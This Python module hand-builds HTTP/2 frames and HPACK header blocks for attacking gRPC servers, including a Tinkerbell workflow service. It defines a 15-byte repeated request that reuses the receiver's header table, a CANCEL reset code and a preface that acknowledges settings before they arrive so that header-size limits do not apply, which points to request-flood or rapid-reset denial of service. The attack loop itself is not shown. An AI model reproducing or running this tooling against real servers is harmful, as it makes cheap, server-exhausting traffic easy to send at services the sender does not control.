"""HTTP/2 frames (RFC 9113) and header blocks (RFC 7541) by hand: an attacker sends what no library would.

The first header block of a connection adds its four long fields to the receiver's table, and `AGAIN` names them by
their numbers there: a request of 15 bytes, the cheapest that there is for whoever sends it.
"""

from __future__ import annotations

import struct

DATA, HEADERS, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM = ACK = 0x1
END_HEADERS = 0x4
CANCEL = struct.pack(">I", 8)
WORKFLOWS = "internal.proto.workflow.v2.WorkflowService"
HEALTH = "grpc.health.v1.Health"
REFLECTION = "grpc.reflection.v1alpha.ServerReflection"
OLDER = "proto.WorkflowService"
OLDEST = "github.com.tinkerbell.tink.protos.workflow.WorkflowService"
OUTPUT = "tinkedge.output.v1.OutputService"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def text(value: bytes) -> bytes:
    """A string that is not Huffman coded; its length is an integer with a prefix of seven bits."""
    if len(value) < 127:
        return bytes((len(value),)) + value
    length, rest = bytearray((127,)), len(value) - 127
    while rest >= 128:
        length.append(rest % 128 | 128)
        rest //= 128
    return bytes((*length, rest)) + value


def block(service: str, method: str) -> bytes:
    """The headers of a call, put into the receiver's table."""
    path = text(f"/{service}/{method}".encode())
    te = text(b"te") + text(b"trailers")
    return b"\x83\x86\x44" + path + b"\x41" + text(b"attack") + b"\x40" + te + b"\x5f" + text(b"application/grpc")


AGAIN = b"\x83\x86\xc1\xc0\xbf\xbe"
"""The same headers once more."""

UNACKNOWLEDGED = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
"""The limit of a header block does not bind a client that has not acknowledged it (RFC 9113 section 6.5.3)."""

PREFACE = UNACKNOWLEDGED + frame(SETTINGS, ACK, 0)
"""It acknowledges the server's settings before they have come."""


def message(body: bytes) -> bytes:
    """A gRPC message that is not compressed."""
    return b"\0" + len(body).to_bytes(4, "big") + body
